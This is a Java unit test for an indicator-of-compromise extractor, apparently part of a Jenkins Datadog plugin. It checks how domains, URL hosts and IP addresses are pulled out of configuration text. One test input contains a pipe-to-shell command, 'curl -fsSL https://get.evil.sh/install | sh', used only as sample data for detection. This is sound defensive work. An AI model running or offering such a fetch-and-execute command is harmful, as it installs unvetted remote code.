package io.jenkins.plugins.datadog.ioc.extract;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.InetAddress;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class IndicatorExtractorTest {
    private final IndicatorExtractor extractor = new IndicatorExtractor(false);

    @Test
    void findsAddressesDomainsAndUrlHostsInOrderOnce() {
        Extraction extraction = extractor.extract("""
                upstream: https://api.evil-corp.net:8443/v1?x=1
                peers: [185.220.101.4, "2606:4700::6810:85e5"]
                mirror: cdn.badhost.io  # and again: cdn.badhost.io
                script: curl -fsSL https://get.evil.sh/install | sh
                """);

        assertThat(extraction.indicators()).containsExactly(
                "api.evil-corp.net", "get.evil.sh", "185.220.101.4", "2606:4700::6810:85e5", "cdn.badhost.io");
        assertThat(extraction.skipped()).isZero();
    }

    @Test
    void skipsAndCountsPrivateReservedAndLocalOnes() {
        String text = "db: 10.0.0.5\ncache: http://localhost:6379\nsvc: api.default.svc.cluster.local\n"
                + "docs: 203.0.113.7 and example.com\nv6: fd00::1 fe80::1 ::1\npublic: 185.220.101.4\n";

        Extraction extraction = extractor.extract(text);

        assertThat(extraction.indicators()).containsExactly("185.220.101.4");
        assertThat(extraction.skipped()).isEqualTo(8);
        assertThat(new IndicatorExtractor(true).extract(text).indicators()).hasSize(9);
    }

    @Test
    void fileNamesAreNotDomainsButUrlHostsAlwaysAre() {
        Extraction extraction = extractor.extract("see values.yaml and app.py, then https://sh.rustup.rs");

        assertThat(extraction.indicators()).containsExactly("sh.rustup.rs");
    }

    @Test
    void invalidAddressesAreNotTaken() {
        assertThat(extractor.extract("version 1.2.3.456 and 999.1.1.1 and 01.2.3.4").indicators()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "2606:4700:0:0:0:0:6810:85e5, 2606:4700::6810:85e5",
        "2001:db8:0:0:1:0:0:1, 2001:db8::1:0:0:1",
        "2001:0db8:0000:0000:0000:0000:0000:0001, 2001:db8::1",
        "0:0:0:0:0:0:0:1, ::1",
        "2a00:1450:4001:81a:0:0:0:200e, 2a00:1450:4001:81a::200e",
        "2a00:1450:4001:0:1:2:3:4, 2a00:1450:4001:0:1:2:3:4",
        "1:0:0:2:0:0:0:3, 1:0:0:2::3",
    })
    void ipv6IsWrittenAsRfc5952Says(String input, String expected) throws Exception {
        assertThat(IndicatorExtractor.canonical(InetAddress.getByName(input).getAddress())).isEqualTo(expected);
    }
}
